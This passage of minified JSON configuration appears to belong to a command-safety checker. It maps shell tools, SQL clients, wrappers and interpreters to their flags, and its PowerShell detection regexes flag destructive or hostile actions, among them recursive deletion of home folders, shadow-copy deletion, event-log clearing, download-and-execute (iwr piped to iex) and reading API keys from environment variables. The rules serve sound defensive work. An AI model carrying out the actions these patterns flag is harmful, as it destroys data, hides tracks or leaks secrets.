-ute"],"files":["f","file"],"operands":"no code"},"presto":{"short":"f","long":["server","catalog","schema","user","execute","file"],"permuted":true,"language":"\
-sql","code":["execute"],"files":["f","file"],"operands":"no code"},"presto-cli":{"short":"f","long":["server","catalog","schema","user","execute","file"],"permu\
-ted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"hive":{"short":"efunpid","long":["database","hiveconf","hivevar","mast\
-er","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operands":"no code"},"beeline":{"short":"efunpid","long":["database","hiveconf","hiveva\
-r","master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operands":"no code"},"spark-sql":{"short":"efunpid","long":["database","hivecon\
-f","hivevar","master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operands":"no code"},"impala-shell":{"short":"qifdu","long":["query",\
-"query_file","impalad","database"],"permuted":true,"language":"sql","code":["q","query"],"files":["f","query_file"],"operands":"no code"},"ysqlsh":{"short":"cdf\
-hpUvw","long":["command","host","port","username","dbname","file"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no c\
-ode"},"vsql":{"short":"cdfhpUvw","long":["command","host","port","username","dbname","file"],"permuted":true,"language":"sql","code":["c","command"],"files":["f\
-","file"],"operands":"no code"},"pgcli":{"short":"cdfhpUvw","long":["command","host","port","username","dbname","file"],"permuted":true,"language":"sql","code":\
-["c","command"],"files":["f","file"],"operands":"no code"},"mycli":{"short":"ehPuDp","long":["execute","host","port","user","database"],"permuted":true,"languag\
-e":"sql","code":["e","execute"],"operands":"no code"},"litecli":{"short":"ehPuDp","long":["execute","host","port","user","database"],"permuted":true,"language":\
-"sql","code":["e","execute"],"operands":"no code"},"usql":{"short":"cfv","long":["command","file"],"permuted":true,"language":"sql","code":["c","command"],"file\
-s":["f","file"],"operands":"no code"},"snow":{"short":"qfc","long":["query","filename","connection"],"permuted":true,"language":"sql","code":["q","query"],"file\
-s":["f","filename"],"operands":"no code"}},"consoles":{"rails":{"short":"e","long":["environment"],"after":["runner","r","console","c"],"language":"ruby","opera\
-nds":"code"},"spring":{"short":"e","long":["environment"],"after":["runner","r","console","c"],"language":"ruby","operands":"code"},"manage.py":{"short":"c","lo\
-ng":["command","interface"],"after":["shell","shell_plus"],"language":"python","code":["c","command"]},"django-admin":{"short":"c","long":["command","interface"\
-],"after":["shell","shell_plus"],"language":"python","code":["c","command"]},"flask":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"odoo-bin\
-":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"odoo":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"superset":{"short"\
-:"cd","after":["shell"],"language":"python","code":["c"]},"scrapy":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"artisan":{"long":["execute\
-"],"after":["tinker"],"language":"php","code":["execute"]},"drush":{"after":["php:eval","php-eval","eval","ev","php:cli"],"language":"php","operands":"code"},"d\
-rush.phar":{"after":["php:eval","php-eval","eval","ev","php:cli"],"language":"php","operands":"code"},"wp":{"after":["eval","shell"],"language":"php","operands"\
-:"code"},"wp-cli":{"after":["eval","shell"],"language":"php","operands":"code"},"wp-cli.phar":{"after":["eval","shell"],"language":"php","operands":"code"}},"wr\
-appers":{"sudo":{"short":"ugpCDRTrthU","long":["user","group","prompt","chdir","chroot","role","type","host","other-user","close-from","command-timeout"],"assig\
-ns":true,"folder":["D","chdir"]},"doas":{"short":"uC","assigns":true},"exec":{"short":"a"},"builtin":{},"pkexec":{"long":["user"]},"run0":{"short":"uD","long":[\
-"user","chdir","property","setenv","unit"],"folder":["D","chdir"]},"gosu":{"skip":1},"su-exec":{"skip":1},"taskset":{"skip":1},"setpriv":{"long":["reuid","regid\
-","groups","inh-caps","bounding-set","securebits","pdeathsig"]},"runcon":{"short":"utrl","skip":1},"env":{"short":"uCS","long":["unset","chdir","split-string"],\
-"assigns":true,"folder":["C","chdir"],"code":["S","split-string"]},"cross-env":{"assigns":true},"dotenv":{"short":"ef"},"nohup":{},"setsid":{},"disown":{},"prli\
-mit":{},"unbuffer":{},"valgrind":{},"catchsegv":{},"entr":{},"firejail":{},"torsocks":{},"eatmydata":{},"ccache":{},"winpty":{},"busybox":{},"toybox":{},"noglob\
-":{},"nocorrect":{},"bunx":{},"pnpx":{},"ddev":{"own":true},"lando":{"own":true},"nice":{"short":"n","long":["adjustment"]},"ionice":{"short":"cnpPu","long":["c\
-lass","classdata"]},"chrt":{"short":"TPD","skip":1},"numactl":{"short":"NmCipP"},"timeout":{"short":"sk","long":["signal","kill-after"],"skip":1},"stdbuf":{"sho\
-rt":"ioe","long":["input","output","error"]},"time":{"short":"fo","long":["format","output"]},"strace":{"short":"eopsPuXaIbOESU"},"ltrace":{"short":"eopsnaAuSlw\
-F"},"hyperfine":{"short":"wrnmMpcSLDsu","long":["warmup","runs","prepare","cleanup","shell","export-json","export-markdown"],"code":["p","c","prepare","cleanup"\
-],"joined":true},"watch":{"short":"nq","long":["interval","equexit"],"joined":true},"pdsh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":tr\
-ue},"dsh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"clush":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":tr\
-ue},"pssh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"parallel-ssh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"jo\
-ined":true},"flock":{"short":"wEc","long":["wait","timeout","conflict-exit-code","command"],"skip":1,"code":["c","command"]},"script":{"short":"cEIOBTomt","long\
-":["command"],"permuted":true,"skip":99,"code":["c","command"]},"chroot":{"long":["userspec","groups"],"skip":1,"own":true},"unshare":{"short":"SGRw","long":["s\
-etuid","setgid","root","wd"],"folder":["w","wd"],"own":true},"nsenter":{"short":"tSGrw","long":["target","setuid","setgid"],"own":true},"fakeroot":{"short":"lsi\
-b"},"proot":{"short":"rbwqk"},"proxychains":{"short":"f"},"proxychains4":{"short":"f"},"tini":{"short":"pe"},"dumb-init":{"short":"r"},"xvfb-run":{"short":"nesf\
-pw"},"dbus-run-session":{"long":["config-file","dbus-daemon"]},"systemd-run":{"short":"pEMHtu","long":["property","setenv","unit","description","slice","uid","g\
-id","working-directory","on-active","on-calendar","on-boot"],"own":true},"systemd-inhibit":{"long":["what","who","why","mode"]},"caffeinate":{"short":"tw"},"npx\
-":{"short":"pc","long":["package","call"],"code":["c","call"]},"uvx":{"long":["from","with","python"]},"su":{"short":"cgGsw","long":["command","group","shell","\
-session-command"],"permuted":true,"skip":99,"code":["c","command","session-command"]},"runuser":{"short":"cgGswu","long":["command","group","shell","session-com\
-mand","user"],"code":["c","command","session-command"]},"sg":{"short":"c","permuted":true,"skip":99,"code":["c"]}},"runners":{"npm":{"short":"c","long":["packag\
-e","workspace","prefix","call"],"code":["c","call"],"after":["exec","x","explore"]},"pnpm":{"short":"","long":["package","filter","dir"],"after":["exec","dlx"]}\
-,"yarn":{"short":"jp","long":["package","cwd","include","exclude","from","since","jobs"],"after":["dlx","exec"]},"bun":{"short":"","long":[],"after":["x","exec"\
-]},"lerna":{"short":"","long":["scope","ignore","concurrency"],"after":["exec"]},"nx":{"short":"","long":[],"after":["exec"]},"bundle":{"short":"","long":[],"af\
-ter":["exec"]},"rbenv":{"short":"","long":[],"after":["exec"]},"pyenv":{"short":"","long":[],"after":["exec"]},"asdf":{"short":"","long":[],"after":["exec"]},"c\
-omposer":{"short":"","long":[],"after":["exec"]},"volta":{"short":"","long":["node","npm","yarn"],"after":["run"]},"fnm":{"short":"","long":["using"],"after":["\
-exec"]},"corepack":{"short":"","long":[]},"flatpak-spawn":{"short":"","long":[]},"pipx":{"short":"","long":["spec"],"after":["run"]},"uv":{"short":"","long":["w\
-ith","python","project","directory","extra","group","env-file"],"after":["run"]},"poetry":{"short":"","long":[],"after":["run"]},"pipenv":{"short":"","long":[],\
-"after":["run"]},"pdm":{"short":"","long":[],"after":["run"]},"rye":{"short":"","long":[],"after":["run"]},"hatch":{"short":"","long":[],"after":["run"]},"op":{\
-"short":"","long":[],"after":["run"]},"doppler":{"short":"","long":[],"after":["run"]},"infisical":{"short":"","long":[],"after":["run"]},"railway":{"short":"",\
-"long":[],"after":["run"]},"dotenv-vault":{"short":"","long":[],"after":["run"]},"heroku":{"short":"ares","long":["app","remote","env","size"],"after":["run","r\
-un:detached"]},"conda":{"short":"np","long":["name","prefix"],"after":["run"]},"nvm":{"short":"","long":[],"after":["exec"],"skip":1},"direnv":{"short":"","long\
-":[],"after":["exec"],"skip":1},"lxc":{"short":"","long":[],"after":["exec"],"skip":1},"mise":{"short":"","long":[],"after":["exec","x"]},"rustup":{"short":"","\
-long":[],"after":["run"],"skip":1},"nix":{"short":"","long":[],"after":["develop","shell","run"]},"vagrant":{"short":"c","long":["command"],"code":["c","command\
-"],"after":["ssh"]},"repo":{"short":"c","long":["command"],"code":["c","command"],"after":["forall"]}},"small_languages":{"lua":{"short":"e","long":[],"code":["\
-e"],"dialect":"lua"},"luajit":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.1":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.2":{"shor\
-t":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.3":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.4":{"short":"e","long":[],"code":["e"],"diale\
-ct":"lua"},"Rscript":{"short":"e","long":[],"code":["e"],"dialect":"r"},"R":{"short":"e","long":[],"code":["e"],"dialect":"r"},"julia":{"short":"eE","long":["ev\
-al","print"],"code":["e","E","eval","print"],"dialect":"julia"},"tclsh":{"short":"","long":[],"dialect":"tcl"},"wish":{"short":"","long":[],"dialect":"tcl"},"ex\
-pect":{"short":"c","long":[],"code":["c"],"dialect":"tcl"},"emacs":{"short":"e","long":["eval"],"code":["eval","e"],"dialect":"lisp"},"emacsclient":{"short":"e"\
-,"long":["eval"],"code":["eval","e"],"dialect":"lisp"},"guile":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"racket":{"short":"c\
-ex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"sbcl":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"ecl":{"sh\
-ort":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"clisp":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"c\
-hicken":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"csi":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":\
-"lisp"},"gosh":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"elixir":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":\
-"elixir"},"iex":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"elixir"},"mix":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"elixir"},\
-"erl":{"short":"","long":["eval"],"code":["eval"],"dialect":"erlang"},"escript":{"short":"","long":["eval"],"code":["eval"],"dialect":"erlang"},"octave":{"short\
-":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"octave-cli":{"short":"r","long":["eval","batch"],"code":["eval","batch","r"],"dia\
-lect":"octave"},"matlab":{"short":"r","long":["eval","batch"],"code":["eval","batch","r"],"dialect":"octave"},"ghc":{"short":"e","long":[],"code":["e"],"dialect\
-":"haskell"},"runghc":{"short":"e","long":[],"code":["e"],"dialect":"haskell"},"stack":{"short":"e","long":[],"code":["e"],"dialect":"haskell"},"scala":{"short"\
-:"ec","long":[],"code":["e","c"],"dialect":"named"},"scala-cli":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"amm":{"short":"ec","long":[],"code"\
-:["e","c"],"dialect":"named"},"kotlin":{"short":"ec","long":[],"code":["e","c"],"dialect":"named"},"spark-shell":{"short":"","long":["master","deploy-mode","con\
-f","packages","jars","name","driver-memory","executor-memory","queue"],"dialect":"named"},"swift":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"na\
-med"},"nim":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"named"},"crystal":{"short":"e","long":[],"code":["e"],"dialect":"named","operands":"code\
-"},"go":{"short":"","long":[],"dialect":"named"},"rustc":{"short":"","long":[],"dialect":"named"},"rust-script":{"short":"","long":[],"dialect":"named"},"swiftc\
-":{"short":"","long":[],"dialect":"named"},"zig":{"short":"","long":[],"dialect":"named"},"v":{"short":"","long":[],"dialect":"named"},"kotlinc":{"short":"","lo\
-ng":[],"dialect":"named"},"groovy":{"short":"e","long":[],"code":["e"],"dialect":"typed"},"java":{"short":"","long":[],"dialect":"typed"},"jshell":{"short":"","\
-long":[],"dialect":"typed"},"gcc":{"short":"","long":[],"dialect":"typed"},"cc":{"short":"","long":[],"dialect":"typed"},"tcc":{"short":"","long":[],"dialect":"\
-typed"},"g++":{"short":"","long":[],"dialect":"typed"},"c++":{"short":"","long":[],"dialect":"typed"},"clang":{"short":"","long":[],"dialect":"typed"},"clang++"\
-:{"short":"","long":[],"dialect":"typed"},"csc":{"short":"","long":[],"dialect":"typed"},"dart":{"short":"","long":[],"dialect":"typed"},"dotnet":{"short":"","l\
-ong":[],"dialect":"typed","operands":"code"},"dotnet-script":{"short":"","long":[],"dialect":"typed","operands":"code"},"pwsh":{"short":"c","long":["Command","c\
-ommand","encoded"],"code":["c","Command","command","encoded"],"operands":"code","ignores":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:\
-Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warni\
-ng|Verbose)|throw)\\\\s+([\\"'])[^\\"'$\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bParseInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\\
-[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\
-\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf \`x\`/*":["(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|rd|rmdir|del)\\\\b(?=[^;\
-\\\\n|]{0,200}\\\\s-[rR])(?![^;\\\\n|#]{0,200}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,200}?\\\\s[\\"']?\\\\$env:(?!TEMP\\\\b|TMP\\\\b)\\\\w+[\\\\\\\\/]\\\\*"],"vssadmin delete shadows":["\\\\bW\
-in32_ShadowCopy\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject|ForEach-Object[^;\\\\n]{0,200}\\\\.Delete\\\\()"],"wevtutil cl System":["\\\\bEventLogSes\
-sion\\\\b[^;\\\\n]{0,200}\\\\.ClearLog\\\\("],"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s\
--WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Directory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci\
-|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(\
-?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"rm -rf ~/Documents":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?=[^;\\\
-\\n|]{0,300}\\\\s-Recurse\\\\b)(?=[^;\\\\n|]{0,300}\\\\s-(?:Include|Filter)\\\\s+[\\"']?\\\\*\\\\.(?!(?:tmp|temp|log|bak|old|orig|pyc|pyo|cache|swp|swo|dmp|o|obj|class|etl|part\
-|crdownload)\\\\b))(?:\\\\s+-(?!Include|Filter)\\\\w+){0,9}\\\\s+[\\"']?~[\\"']?\\\\s(?![^;\\\\n]{0,300}\\\\s-WhatIf\\\\b)[^;\\\\n]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b"],"cat\
- $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml|Copy-Item|cpi|Move-Item)\\\\b(?:\\\\s+-(?!TotalCount|Tail|First)\\\\w+){0,4}\\\\s+\
-([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:ReadAll\\\\w+|ReadLines|OpenRead|OpenText)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\\
-"'$;|,()]*)\\\\1"],"cat ~/$":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml)\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+\\\\(\\\\s*Join-Path\\\\s+(?:-Pa\
-th\\\\s+)?[\\"']?~[\\"']?\\\\s+(?:-ChildPath\\\\s+)?[\\"']?([^\\"'$()\\\\s]+)"],"echo x > $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Set-Content|Add-Content|Out-File|Tee-Object)\\\\\
-b(?:\\\\s+-(?!Value)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:WriteAll\\\\w+|AppendAll\\\\w+)\\\\(\\\\s*([\\"']?)([^\\\
-\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"while :; do x & done":["\\\\b(?:while\\\\s*\\\\(\\\\s*(?:\\\\$true|1)\\\\s*\\\\)|for\\\\s*\\\\(\\\\s*;\\\\s*;\\\\s*\\\\))\\\\s*\\\\{(?![^}]{0,400}(?:\\\\b(\
-?:Start-Sleep|sleep|break|Read-Host|Wait-\\\\w+|return|exit)\\\\b|\\\\s-Wait\\\\b))[^}]{0,400}\\\\b(?:Start-Process|Start-Job|saps|sajb)\\\\b"],"pkill -f $":["\\\\b(?:Get-Pro\
-cess|gps|ps)\\\\b(?:\\\\s+-\\\\w+){0,2}(?:\\\\s+[\\"']?([\\\\w.*,-]+)[\\"']?)?[^;\\\\n|]{0,200}\\\\|\\\\s*(?![^;\\\\n]{0,400}\\\\s-WhatIf(?![:\\\\w]))(?:(?:Where-Object|where|\\\\?)(?:[^\
-;\\\\n|\\"']{0,200}[\\"']([^\\"'\\\\n]{1,100})[\\"'])?[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:(?:ForEach-Object|%)\\\\s*\\\\{[^;\\\\n}]{0,80})?\\\\b(?:Stop-Process|spps)\\\\b","\\\\b(Get-(?:Net\
-TCPConnection|NetUDPEndpoint))\\\\b(?![^;\\\\n|]{0,100}-LocalPort\\\\s+(?:3\\\\d{3}|4200|5173|80[08]\\\\d)\\\\b)[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,200}\\\\b(?:Stop-Process|spps)\\\\b(?\
-![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))"],"killall $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Stop-Process|spps)\\\\b(?![^;\\\\n|]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?:\\\\s+-(?!Name)\
-\\\\w+){0,3}\\\\s+-Name\\\\s+[\\"']?([\\\\w.*-]+)"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\
-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][\
-^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Cont\
-ent\\\\b[\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bash\
-rc":["\\\\b(?:Add-Content|Set-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Di\
-rectory|File)\\\\]::Delete\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\
-\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[\
-A-Za-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|C\
-reationTime|LastAccessTime|Length|Name|BaseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\
-\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs\
-|ts|tsx|js|py|go|rs|java|rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invo\
-ke-Expression|iex)\\\\s+([\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|\
-npm|psql|mysql|sqlcmd|redis-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|r\
-sync|robocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?<![/\\\\\\\\.\\\\w])(?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUs\
-er|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+|Mailbox|DistributionGroup|Unified\\\\w+|Msol\\\\w+|SPO\\\\w+|PnP\\\\w+|Team|DnsServer\\\\w+|DhcpServer\\\\w+|GPO|ClusterRe\
-source|VMSnapshot|VirtualDisk|StoragePool)\\\\b[^;|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set\
--MpPreference|Set-ExecutionPolicy(?![^;\\\\n]{0,300}(?:Process|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bsc\
-riptblock\\\\]::Create\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|Dow\
-nloadString)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression\
-)\\\\b","(?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir\
-)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}},"powershell":{"short":"c","long":["Command","command","encoded"],"code":["c"\
-,"Command","command","encoded"],"operands":"code","ignores":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\
-\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[\
-^\\"'$\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bParseInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\
-\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n\
-]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf \`x\`/*":["(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|rd|rmdir|del)\\\\b(?=[^;\\\\n|]{0,200}\\\\s-[rR])(?![^;\\\\n\
-|#]{0,200}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,200}?\\\\s[\\"']?\\\\$env:(?!TEMP\\\\b|TMP\\\\b)\\\\w+[\\\\\\\\/]\\\\*"],"vssadmin delete shadows":["\\\\bWin32_ShadowCopy\\\\b[\\\\s\\\\S]{0,4\
-00}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject|ForEach-Object[^;\\\\n]{0,200}\\\\.Delete\\\\()"],"wevtutil cl System":["\\\\bEventLogSession\\\\b[^;\\\\n]{0,200}\\\\.ClearL\
-og\\\\("],"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\
-\\\\.Directory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|I\
-nclude)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCi\
